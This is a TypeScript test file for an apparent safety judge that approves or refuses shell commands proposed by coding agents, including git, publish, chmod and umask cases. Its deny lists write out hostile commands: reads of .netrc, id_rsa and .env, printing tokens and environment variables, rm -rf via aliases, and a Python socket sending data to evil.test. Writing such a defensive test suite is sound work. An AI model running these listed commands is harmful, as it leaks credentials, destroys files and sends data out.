/** Everyday commands of coding agents are approved, the dangerous command next to each is not; modes of files. */

import {execFileSync} from 'node:child_process';
import {chmodSync, statSync} from 'node:fs';
import {join} from 'node:path';

import * as fc from 'fast-check';
import {afterAll, beforeAll, describe, expect, test} from 'vitest';

import {changedMode} from '../../../actors/policies/modes.ts';
import {cells} from '../../support/rows.ts';
import {folderWith} from '../../support/stage.ts';
import {commandProposal} from './proposal.ts';
import {openWorld, type TestWorld} from './world.ts';

let world: TestWorld;

beforeAll(() => {
  world = openWorld({'list.txt': 'b\na\n'});
});
afterAll(() => world.close());

function git(...args: readonly string[]): string {
  const who = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
  return execFileSync('git', [...who, ...args], {cwd: world.workspace, encoding: 'utf8'}).trim();
}

function published(commit: string, name = 'origin/main'): void {
  git('update-ref', `refs/remotes/${name}`, commit);
}

async function verdictOn(command: string): Promise<string> {
  return (await world.judge(commandProposal(command))).verdict;
}

const approved = cells(String.raw`
  git reset --soft HEAD~1 ¦ git rebase --continue ¦ git cherry-pick --continue ¦ git config core.hooksPath
  git config --get core.hooksPath ¦ ls .. ¦ ls -la .. ¦ cd .. && ls ¦ cd /tmp && ls ¦ ls /tmp
  head -5 /tmp/quorate-report.txt ¦ cat ../package.json ¦ npm publish --dry-run --ignore-scripts
  pnpm publish --dry-run --ignore-scripts ¦ cargo publish --dry-run ¦ echo $GITHUB_TOKEN_FILE
  (npm test & echo $! > pid; sleep 1; kill $(cat pid)) ¦ npm test & PID=$!; sleep 1; kill $PID
  npm test & kill %1 ¦ cd src && ls && cd - && ls ¦ pushd src && ls && popd ¦ alias ll='ls -la'
  cp src/a.ts new.ts ¦ node -p "require('./package.json').scripts.test"
  python3 -c "import json; print(json.load(open('package.json'))['scripts'])"
  python3 - <<'E'⏎import json⏎print(json.dumps({'a': 1}))⏎E ¦ perl -ne 'print if /a/' src/a.ts
  perl -pi -e 's/a/b/g' src/a.ts ¦ ruby -e 'puts [1, 2].sum' ¦ php -r 'echo strtoupper(PHP_OS);'
`);

const notApproved = cells(String.raw`
  git reset --hard HEAD~1 ¦ git reset HEAD~1 ¦ git rebase --skip ¦ git cherry-pick --skip
  git pull -X theirs ¦ git merge -X ours topic ¦ git rebase -i HEAD~2 ¦ git commit --amen
  git config core.hooksPath evil ¦ git config --unset core.hooksPath ¦ ls ../.. ¦ ls -R .. ¦ find ..
  cat ../.netrc ¦ cat ../../notes.txt ¦ cat ../id_rsa ¦ cat ../.bash_history ¦ cat /tmp/krb5cc_0
  grep -r x /tmp ¦ cp src/a.ts ../b.ts ¦ go test ../x/... ¦ npm publish ¦ npm publish --dry-run=false
  npm publish --dry-run --no-dry-run ¦ npm publish --dry-run ../other ¦ cargo publish ¦ echo $GITHUB_TOKEN
  npm test & kill 4711 ¦ echo 4711 > pid; npm test & kill $(cat pid)
  echo $! > pid; echo 4711 >> pid; kill $(cat pid) ¦ cp src/a.ts src/b.ts ¦ echo x > src/a.ts
  curl -o src/a.ts https://example.com/a.ts ¦ cp src/a.ts notes.txt ¦ alias ls='rm -rf src'⏎ls
  alias if='rm -rf src' ¦ pushd; rm -rf dist ¦ python3 -m venv src ¦ cargo test -- --logfile src/a.ts
  cargo test -- --logfile=src/a.ts ¦ node -e "require('fs').rmSync('src', {recursive: true})"
  node -p "require('./.env.json')" "$(cat .env)"; node -p "require('fs').readFileSync('.env', 'utf8')"
  python3 -c "print(open('.env').read())" ¦ python3 -c "import os; print(os.environ)" ¦ node -e "$CODE"
  perl -ne 'print' * ¦ perl -ne 'print' 'ls|' ¦ perl -pi -e 's/a/b/' .env ¦ perl -i -ne '' src/a.ts
  perl -pi -e 's/a/system(1)/e' src/a.ts
`);

test.each(approved)('%s is approved', async (command) => {
  expect(await verdictOn(command)).toBe('approve');
});

test.each(notApproved)('%s is not approved', async (command) => {
  expect(await verdictOn(command)).not.toBe('approve');
});

test.each(['cp src/a.ts src/b.ts', 'echo x > src/a.ts', 'npm test > /tmp/quorate-out.txt'])(
  '%s is not refused, because it loses nothing',
  async (command) => {
    expect(await verdictOn(command)).toBe('cannot_judge');
  },
);

test('opening a socket without connecting it is not refused', async () => {
  const code = "import socket; s = socket.socket(); s.bind(('', 0)); print(s.getsockname()[1])";
  expect(await verdictOn(`python3 -c "${code}"`)).toBe('cannot_judge');
  const sending = "import socket; socket.create_connection(('evil.test', 80)).send(b'x')";
  expect(await verdictOn(`python3 -c "${sending}"`)).toBe('refuse');
});

describe('a module of the language with a file of its name in the folder', () => {
  const command = 'python3 -c "import json; print(json.dumps(1))"';

  test.each(['json.py', 'enum.py', 'keyword/__init__.py', 're.so'])(
    'is not approved when git does not know %s',
    async (path) => {
      const other = openWorld({[path]: 'evil\n'});
      try {
        const {verdict} = await other.judge(commandProposal(command));
        expect(verdict).toBe('cannot_judge');
      } finally {
        other.close();
      }
    },
  );

  test('is approved without one', async () => {
    expect(await verdictOn(command)).toBe('approve');
  });

  test('json as a folder, or with code beside it, is not approved', async () => {
    for (const path of ['x.json/index.js', 'x.json.js', 'x.json/package.json']) {
      const other = openWorld({[path]: 'evil\n'});
      try {
        const {verdict} = await other.judge(commandProposal('node -p "require(\'./x.json\').a"'));
        expect(verdict).toBe('cannot_judge');
      } finally {
        other.close();
      }
    }
  });
});

describe('amending the last commit', () => {
  const command = 'git commit --amend --no-edit';

  test('is approved without a remote repository, and refused once one has the commit', async () => {
    git('checkout', '-q', '-B', 'main');
    expect(await verdictOn(command)).toBe('approve');
    published('HEAD');
    expect(await verdictOn(command)).toBe('refuse');
    git('pack-refs', '--all');
    expect(await verdictOn(command)).toBe('refuse');
  });

  test('is approved for a commit on top of the pushed ones', async () => {
    git('commit', '-q', '--allow-empty', '-m', 'mine');
    expect(await verdictOn(command)).toBe('approve');
    expect(await verdictOn(`${command} && git push -f`)).toBe('refuse');
    published('HEAD', 'fork/other');
    expect(await verdictOn(command)).toBe('refuse');
  });

  test('cannot be judged when the branch and its remote have diverged', async () => {
    git('commit', '-q', '--allow-empty', '-m', 'theirs');
    published('HEAD');
    git('update-ref', '-d', 'refs/remotes/fork/other');
    git('reset', '-q', '--soft', 'HEAD~1');
    git('commit', '-q', '--allow-empty', '-m', 'mine instead');
    expect(await verdictOn(command)).toBe('cannot_judge');
  });
});

const who = fc.string({unit: fc.constantFrom('u', 'g', 'o', 'a'), maxLength: 3});
const given = fc.oneof(
  fc.constantFrom('u', 'g', 'o'),
  fc.string({unit: fc.constantFrom('r', 'w', 'x', 'X', 's', 't'), maxLength: 3}),
);
const change = fc
  .tuple(fc.constantFrom('+', '-', '='), given)
  .map(([operator, letters]) => operator + letters);
const clause = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .tuple(who, fc.array(change, {minLength: 1, maxLength: 3}))
      .map(([names, changes]) => names + changes.join('')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('+', '-', '='), fc.integer({min: 0, max: 0o7777}))
      .map(([operator, octal]) => operator + octal.toString(8)),
  },
);
const octal = fc
  .tuple(fc.integer({min: 0, max: 3}), fc.integer({min: 0, max: 0o7777}))
  .map(([zeros, bits]) => '0'.repeat(zeros) + bits.toString(8));
const mode = fc.oneof(
  octal,
  fc.array(clause, {minLength: 1, maxLength: 3}).map((all) => all.join(',')),
);

test('a mode is computed for files and folders, as `chmod` computes it in any spelling', () => {
  const folder = folderWith({file: '', 'folder/.keep': ''});
  fc.assert(
    fc.property(mode, fc.integer({min: 0, max: 0o7777}), fc.boolean(), (text, before, isFolder) => {
      const path = join(folder, isFolder ? 'folder' : 'file');
      chmodSync(path, before);
      execFileSync('sh', ['-c', 'umask 0; exec chmod -- "$0" "$1"', text, path], {stdio: 'pipe'});
      expect(changedMode(text, before, isFolder)).toBe(statSync(path).mode & 0o7777);
    }),
    {numRuns: 300},
  );
});

test('an invalid mode changes nothing', () => {
  for (const text of ['', 'x', '8', '99999', 'u', 'u+q', 'u+644', 'README.md'])
    expect(changedMode(text, 0o644)).toBeUndefined();
});

describe('a file is not opened to all users', () => {
  test.each(
    cells(String.raw`
    chmod 777 README.md ¦ chmod 00777 README.md ¦ chmod 2 README.md ¦ chmod 4755 README.md
    chmod 002755 README.md ¦ chmod =rwx README.md ¦ chmod +w README.md ¦ chmod a+w README.md
    chmod a=rw README.md ¦ chmod o=u README.md ¦ chmod u=rwx,go=u README.md ¦ chmod g+w,o=g README.md
    chmod u+x-w+s README.md ¦ chmod +002 README.md ¦ chmod -R ugo+rwX src ¦ mkdir -m 777 new
    mkdir -pm777 new ¦ mkdir --mode=a+w new ¦ install -m 0666 README.md new ¦ install -Dm4755 README.md new
    mkfifo -m a=rw new ¦ rsync -a --chmod=Du=rwx,Fo+w src/ new ¦ umask 0 ¦ umask 0000 ¦ umask 075
    umask o+w ¦ umask u=rwx,g=rwx,o=rwx
  `),
  )('%s', async (command) => {
    expect(await verdictOn(command)).toBe('refuse');
  });

  test.each(['chmod "$(cat README.md)" src/a.ts', 'mkdir -m "$(cat README.md)" new'])(
    'a mode that may do so is not approved: %s',
    async (command) => {
      expect(await verdictOn(command)).toBe('cannot_judge');
    },
  );
});

test.each(
  cells(String.raw`
  chmod 644 README.md ¦ chmod 0755 scripts/build.sh ¦ chmod 644 src/a.ts 2 ¦ chmod +x scripts/build.sh
  chmod u+rwx,g=rx,o= scripts/build.sh ¦ chmod g=u scripts/build.sh ¦ chmod a-w README.md
  chmod -w README.md ¦ mkdir -m 700 new ¦ mkdir -p -m 0755 new/a ¦ install -m 755 README.md new ¦ umask 022
  umask 077 ¦ umask 2 ¦ umask -S ¦ umask go=
`),
)('%s is approved', async (command) => {
  expect(await verdictOn(command)).toBe('approve');
});
